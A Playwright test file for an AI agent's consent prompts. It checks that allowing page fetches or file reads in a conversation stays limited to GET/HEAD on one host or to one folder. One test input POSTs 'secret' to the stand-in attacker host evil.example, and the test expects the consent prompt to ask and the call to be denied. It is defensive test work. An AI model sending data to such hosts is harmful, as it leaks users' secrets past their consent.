import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { test as base, expect } from "./support/fixtures.ts";

interface Site {
  /** `127.0.0.1:port` */
  readonly host: string;
  readonly url: string;
  /** Method and body of each request that came. */
  readonly seen: readonly string[];
}

async function openSite(): Promise<Site & { close(): void }> {
  const seen: string[] = [];
  const server = createServer(async (request, response) => {
    const body = await request.setEncoding("utf8").toArray();
    seen.push(`${request.method} ${body.join("")}`);
    response.end("hello");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { host, url: `http://${host}/`, seen, close: () => server.close() };
}

const test = base.extend<{ site: Site; other: Site }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright wants the pattern
  site: async ({}, use) => {
    const site = await openSite();
    await use(site);
    site.close();
  },
  // biome-ignore lint/correctness/noEmptyPattern: Playwright wants the pattern
  other: async ({}, use) => {
    const site = await openSite();
    await use(site);
    site.close();
  },
});

const OK = { result: { status_code: 200, body: "hello" } };
const REFUSED = { error: { reason: "user_refused" } };

test("a page that was allowed in a conversation makes its host quiet, and nothing else", async ({
  stage,
  site,
  other,
}) => {
  const { agent } = await stage.connectedAgent();
  const first = agent.call("fetch_url", { url: site.url });
  const button = (await stage.card()).getByTestId("consent-allow-conversation");
  await expect(button).toHaveText(`Allow ${site.host} in this conversation`);
  await stage.press("consent-allow-conversation");
  expect(await first).toMatchObject(OK);

  expect(await agent.call("fetch_url", { url: `${site.url}page?b` })).toMatchObject(OK);
  expect(await agent.call("fetch_url", { url: site.url, method: "HEAD" })).toMatchObject({
    result: { status_code: 200 },
  });
  await stage.noCard();

  const ASKED = [
    { url: site.url, method: "POST", body: "secret" },
    { url: "http://evil.example/", method: "POST", body: "secret" },
    { url: site.url, headers: { Authorization: "Bearer x" } },
    { url: other.url },
    { url: site.url.replace("127.0.0.1", "localhost") },
    { url: "https://example.com/" },
  ];
  for (const args of ASKED) {
    const call = agent.call("fetch_url", args);
    const sends = "body" in args || "headers" in args;
    const card = await stage.card();
    await expect(card.getByTestId("consent-allow-once")).toBeVisible();
    await expect(card.getByTestId("consent-allow-conversation")).toHaveCount(sends ? 0 : 1);
    await expect(card.getByTestId("consent-allow-scope")).toHaveCount(sends ? 0 : 1);
    await stage.press("consent-deny");
    expect(await call).toMatchObject(REFUSED);
  }
  expect(site.seen).toEqual(["GET ", "GET ", "HEAD "]);
  expect(other.seen).toEqual([]);

  const main = await stage.open("permissions");
  await expect(main.getByTestId("quiet-period-covers")).toHaveText(
    `Pages from ${site.host} (GET and HEAD only)`,
  );
  await main.getByTestId("end-quiet-period").click();
  await expect(main.getByTestId("quiet-period-row")).toHaveCount(0);
  const last = agent.call("fetch_url", { url: site.url });
  await stage.press("consent-deny");
  expect(await last).toMatchObject(REFUSED);
});

test("the wider answer makes every allowed host quiet, and still nothing that sends", async ({
  stage,
  site,
  other,
}) => {
  const { agent } = await stage.connectedAgent();
  const first = agent.call("fetch_url", { url: site.url });
  await stage.card();
  await stage.press("consent-allow-scope");
  expect(await first).toMatchObject(OK);
  const main = await stage.open("permissions");
  await expect(main.getByTestId("quiet-period-covers")).toHaveText(
    "Pages from any public host (GET and HEAD only)",
  );
  await main.getByTestId("add-host-name").fill(other.host);
  await main.getByTestId("add-host").click();
  await expect(main.getByTestId("host-row")).toHaveCount(2);
  expect(await agent.call("fetch_url", { url: other.url })).toMatchObject(OK);
  const sent = agent.call("fetch_url", { url: other.url, method: "POST", body: "secret" });
  await stage.press("consent-deny");
  expect(await sent).toMatchObject(REFUSED);
  expect(other.seen).toEqual(["GET "]);
});

test("a file that was allowed in a conversation makes its folder quiet, and what is below", async ({
  stage,
}) => {
  const folder = stage.folderWith({ "top.md": "top" });
  for (const name of ["src", "src/deep", "src-2"]) {
    mkdirSync(join(folder, name));
    writeFileSync(join(folder, name, "a.md"), name);
  }
  symlinkSync(join(folder, "src-2"), join(folder, "src", "link"));
  const { agent } = await stage.connectedAgent();
  const main = await stage.open("permissions");
  await main.getByTestId("add-root-path").fill(folder);
  await main.getByTestId("add-root").click();
  await expect(main.getByTestId("root-row")).toHaveCount(1);

  const read = (...below: string[]) => agent.call("read_file", { path: join(folder, ...below) });
  const first = read("src", "a.md");
  const card = await stage.card();
  await expect(card.getByTestId("consent-allow-scope")).toBeVisible();
  await stage.press("consent-allow-conversation");
  expect(await first).toMatchObject({ result: { content: "src" } });
  expect(await read("src", "deep", "a.md")).toMatchObject({ result: { content: "src/deep" } });
  expect(await agent.call("list_directory", { path: join(folder, "src/deep") })).toMatchObject({
    result: { entries: expect.anything() },
  });
  expect(await read("src", "link", "a.md")).toMatchObject({
    error: { code: "TOOL_PLATFORM_ERROR" },
  });
  await stage.noCard();
  await expect(main.getByTestId("quiet-period-covers")).toHaveText(
    `Reading in ${join(folder, "src")} and the folders in it`,
  );

  for (const path of [["top.md"], ["src-2", "a.md"]]) {
    const call = read(...path);
    await stage.press("consent-deny");
    expect(await call).toMatchObject(REFUSED);
  }
  const above = agent.call("list_directory", { path: folder });
  await stage.press("consent-deny");
  expect(await above).toMatchObject(REFUSED);
});
